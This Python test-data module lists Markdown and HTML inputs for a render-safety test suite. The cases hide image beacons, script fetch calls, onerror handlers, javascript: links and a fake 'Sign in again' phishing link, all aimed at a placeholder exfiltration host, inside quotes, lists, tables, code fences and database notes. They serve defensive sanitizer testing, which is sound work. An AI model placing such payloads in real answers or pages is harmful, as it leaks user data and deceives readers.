"""More answers and database strings, aimed at the container blocks of CommonMark and GFM (block quotes,
list items, fenced and indented code, tables, HTML blocks, link reference definitions) where a rewrite that
writes the structure back slightly differently lets the rest render live.

``words`` are what a reader must still see (by hand, from the text as a person reads it)."""

from __future__ import annotations

from tests.render_safety.corpus import EXFIL, PIXEL, URL, Case

IMG = f"![x]({URL})"
SIGN_IN = f"[Sign in again](https://{EXFIL}/login)"

ANSWERS: tuple[Case, ...] = (
    # block quotes (CommonMark 5.1): blank lines, lazy continuation, nesting
    Case("quoted fence with a blank line", f"> ```\n> code line\n>\n> {IMG}\n> {SIGN_IN}\n> ```\n\nT1 fine",
         ("code line", "T1 fine")),
    Case("quoted fence with two blank lines", f"> ```\n> a\n>\n>\n> b {IMG}\n> ```", ("a", "b")),
    Case("quoted tilde fence with a blank line", f"> ~~~\n> x\n>\n> {IMG}\n> ~~~", ("x",)),
    Case("quote, then a fence after a blank line", f"> note\n\n```\n{IMG}\n```", ("note",)),
    Case("nested quote with a fence", f"> > ```\n> > q\n> >\n> > {IMG}\n> > ```", ("q",)),
    Case("lazy continuation line", f"> Q05 drifted\nlazily continued {IMG}", ("Q05 drifted", "lazily continued")),
    Case("quote in a list item with a fence", f"- item\n  > ```\n  > z\n  >\n  > {IMG}\n  > ```", ("item", "z")),
    Case("quoted indented code with a blank line", f">     code one\n>\n>     {IMG}\n\nafter", ("code one", "after")),
    # list items (5.2, 5.3): fences and blank lines inside items
    Case("fence in a list item with a blank line", f"1. step\n\n   ```\n   a\n\n   {IMG}\n   ```\n2. next",
         ("step", "next")),
    Case("fence in a nested list item", f"- a\n  - b\n    ```\n    c\n\n    {SIGN_IN}\n    ```", ("a", "b", "c")),
    Case("list item starting with a fence", f"-   ```\n    x\n\n    {IMG}\n    ```", ("x",)),
    Case("ordered list starting at 7", f"7. seven {IMG}\n8. eight", ("seven", "eight")),
    Case("loose list with links", f"- [a](https://{EXFIL}/a)\n\n- [b](/heatmap)", ("a", "b"), app_links=("/heatmap",)),
    Case("list marker after a quote", f"> - q1 {IMG}\n> - q2", ("q1", "q2")),
    # tables (GFM 4.10): pipes in code spans, escaped pipes, links and images in cells
    Case("code span with a pipe in a table cell", f"| a | b |\n|---|---|\n| `x\\|{IMG}` | c |", ("a", "b", "c")),
    Case("code span with two pipes in a cell", f"| q |\n|---|\n| `a\\|b\\|{SIGN_IN}` |", ("q",)),
    Case("escaped pipe in text cell", f"| q | v |\n|---|---|\n| a\\|b | {IMG} |", ("q", "v", "a|b")),
    Case("link with a pipe in its URL in a cell", "| q |\n|---|\n| [t](/timeseries?a=1\\|2) |", ("q", "t"),
         app_links=("/timeseries?a=1%7C2",)),
    Case("table inside a quote", f"> | q | v |\n> |---|---|\n> | `a\\|b` | {IMG} |", ("q", "v")),
    Case("table inside a list item", f"- t\n\n  | q |\n  |---|\n  | `x\\|{IMG}` |", ("t", "q")),
    Case("table cell with html", f"| q |\n|---|\n| <img src=\"{URL}\"> |", ("q",)),
    Case("table header with an image", f"| {IMG} | b |\n|---|---|\n| 1 | 2 |", ("b", "1", "2")),
    # fenced and indented code (4.4, 4.5)
    Case("fence longer than its content's backticks", f"````\n```\n{IMG}\n```\n````\n\nok", ("ok",)),
    Case("unclosed fence runs to the end", f"```\n{IMG}\nstill code", ("still code",)),
    Case("fence info string with a URL", f"```{URL}\ncode\n```", ("code",)),
    Case("indented code holding HTML", f"    <img src=\"{URL}\">\n\nafter", ("after",)),
    Case("code span holding backticks", f"run `` `{IMG}` `` now", ("run", "now")),
    # HTML blocks (4.6), all seven kinds, and inline HTML
    Case("html block kind 1 script", f"<script>\nfetch('{URL}')\n</script>\n\nok", ("ok",)),
    Case("html block kind 2 comment", f"<!-- {IMG} -->\n\nok", ("ok",)),
    Case("html block kind 3 processing", f"<?php echo '{URL}'; ?>\n\nok", ("ok",)),
    Case("html block kind 4 declaration", "<!DOCTYPE html>\n\nok", ("ok",)),
    Case("html block kind 5 cdata", f"<![CDATA[{URL}]]>\n\nok", ("ok",)),
    Case("html block kind 6 details", f"<details><summary>more</summary>\n\n{IMG}\n\n</details>", ("more",)),
    Case("html block kind 7 custom tag", f"<x-img src=\"{URL}\">\n\nok", ("ok",)),
    Case("uppercase tag", f"Q01 <IMG SRC=\"{URL}\"> ok", ("Q01", "ok")),
    Case("picture srcset", f"<picture><source srcset=\"{URL}\"></picture> ok", ("ok",)),
    Case("style tag import", f"<style>@import url({URL});</style> ok", ("ok",)),
    Case("link preload", f"<link rel=preload href=\"{URL}\"> ok", ("ok",)),
    # link reference definitions in containers (4.7)
    Case("reference definition in a quote", f"[r][d] then\n\n> [d]: {URL}", ("then",)),
    Case("reference definition in a list", f"- ![p][d] item\n\n- [d]: {URL}", ("item",)),
    Case("reference definition with angle URL", f"[go][d]\n\n[d]: <https://{EXFIL}/a b>", ("go",)),
    Case("reference definition with a title over lines", f"[go][d]\n\n[d]: {URL}\n'multi\nline'", ("go",)),
    # autolinks as Streamlit's renderer (GFM autolink literals) reads them
    Case("www autolink in a quote", f"> see www.{EXFIL}/x", ("see",)),
    Case("e-mail in a list", f"- write lab@{EXFIL}", ("write",)),
    Case("URL in heading", f"# Report {URL}", ("Report",)),
    Case("URL split by emphasis", f"https:/*/*{EXFIL}/x and ht*tp*s://{EXFIL}", ("and",)),
    Case("xmpp and mailto", f"xmpp:lab@{EXFIL} mailto:lab@{EXFIL}", ()),
    Case("URL with escaped punctuation", f"https\\://{EXFIL}/x ok", ("ok",)),
    # headings, breaks, emphasis around links
    Case("setext heading with an image", f"Title {IMG}\n=====\n\ntext", ("Title", "text")),
    Case("hard break then image", f"line one\\\n{IMG} line two", ("line one", "line two")),
    Case("emphasis around a link", f"**[bold]({URL})** and _[it](/heatmap)_", ("bold", "and", "it"),
         app_links=("/heatmap",)),
    Case("link inside image alt", f"![a [b]({URL}) c](https://{EXFIL}/i)", ("a",)),
    Case("footnote syntax", f"T1 fell[^1].\n\n[^1]: {URL}", ("T1 fell",)),
    Case("data image in a reference", f"![p][d] ok\n\n[d]: {PIXEL}", ("ok",)),
    # containers within containers, lazy lines and markers an outside reader of CommonMark/GFM would try
    Case("fence in a list in a quote with a blank line", f"> 1. a\n>\n>    ```\n>    x\n>\n>    {IMG}\n>    ```\n\nend",
         ("a", "x", "end")),
    Case("lazy line after a loose list item", f"- a\n\n  b\n{IMG} lazy", ("a", "b", "lazy")),
    Case("task list item with a link", f"- [ ] [done](https://{EXFIL}/t)\n- [x] checked", ("done", "checked")),
    Case("table row turned setext by a dash line", f"| a |\n|---|\n| {IMG} c |\n---\nafter", ("a", "after")),
    Case("indented code after a list item", f"1. a\n\n        {IMG}\n\nafter", ("a", "after")),
    Case("html block kind 6 in a quote", f"> <div>\n> <img src=\"{URL}\">\n> </div>\n\nok", ("ok",)),
    Case("html block kind 7 in a list item", f"- x\n\n  <x-a href=\"{URL}\">\n  y", ("x", "y")),
    Case("reference definition by lazy continuation", f"> [d] quoted\n[d]: {URL}", ("quoted",)),
    Case("link destination in angle brackets with a space", f"[go](<https://{EXFIL}/a b>) now", ("go", "now")),
    Case("entity-written scheme in a link", f"[go](&#104;ttps://{EXFIL}/e) now", ("go", "now")),
    Case("backslash line break inside link text", f"[go\\\nnow](https://{EXFIL}/b)", ("go", "now")),
    Case("emphasis around a www literal", f"*www.{EXFIL}* and ~~https://{EXFIL}/s~~ end", ("and", "end")),
    Case("ordered list with a paren marker", f"1) [x](https://{EXFIL}/p) one\n2) two", ("x", "one", "two")),
    Case("heading with closing hashes and a link", f"## [T1](https://{EXFIL}/h) report ##", ("T1", "report")),
    Case("code span in a cell ending in a backslash", f"| a | b |\n|---|---|\n| `x\\` | {IMG} |", ("a", "b")),
    Case("quoted list whose item holds a table", f"> - t\n>\n>   | q |\n>   |---|\n>   | `a\\|{IMG}` |", ("t", "q")),
    # database strings: calibration notes, tags, chip metadata as written by anyone with write access
    Case("note with an image", f"Retuned after {IMG} cooldown", ("Retuned after", "cooldown")),
    Case("note asking to sign in", f"Session expired. {SIGN_IN} to see Q05.", ("Session expired.", "Sign in again")),
    Case("tag with html", f"<img src=x onerror=\"fetch('{URL}')\">drift", ("drift",)),
    Case("chip name with a quote and fence", f"64Qv3\n> ```\n>\n> {IMG}", ("64Qv3",)),
    Case("qubit label with brackets", "Q[05](javascript:alert(1))", ("Q",)),
    Case("username with directives", f":red[admin] :material/lock: {SIGN_IN}", ("admin",)),
    Case("note with a tab-indented fence", f"note\n\n\t```\n\t{IMG}\n\t```", ("note",)),
    Case("note with CRLF line ends", f"> ```\r\n> a\r\n>\r\n> {IMG}\r\n> ```\r\n", ("a",)),
    Case("note with NUL and bidi", f"Q\x0005 \u202e{IMG}", ("Q",)),
)

# Rewritten with their structure intact: these must not merely fall back to plain text.
KEPT_STRUCTURE = ("quoted fence with a blank line", "code span with a pipe in a table cell")
